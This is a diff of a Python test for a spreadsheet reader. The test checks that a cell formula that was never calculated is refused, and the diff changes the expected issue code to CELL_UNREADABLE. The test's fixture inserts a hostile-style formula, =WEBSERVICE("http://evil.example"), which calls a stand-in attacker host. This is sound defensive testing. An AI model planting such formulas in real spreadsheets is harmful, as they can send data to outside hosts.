@@ -179,7 +179,7 @@ def test_a_file_refused_after_reading_leaves_its_reason_and_no_content(cast: Cas
 def test_a_formula_is_only_its_last_value_and_one_never_calculated_is_refused() -> None:
     asked = edited(roster(), lambda book: book.active.cell(2, 1, '=WEBSERVICE("http://evil.example")'))
     reading = read_sheet(SHEET, asked)
-    assert [(i.code, i.column) for i in reading.clean(reading.rows[0]).issues] == [("NAME_MISSING", "A")]
+    assert [(i.code, i.column) for i in reading.clean(reading.rows[0]).issues] == [("CELL_UNREADABLE", "A")]
     known = repacked(asked, lambda _, part: part.replace(b"<v></v>", b"<v>x</v>").replace(b"<v />", b"<v>x</v>"))
     reading = read_sheet(SHEET, known)
     assert reading.clean(reading.rows[0]).values["name"] == "x"
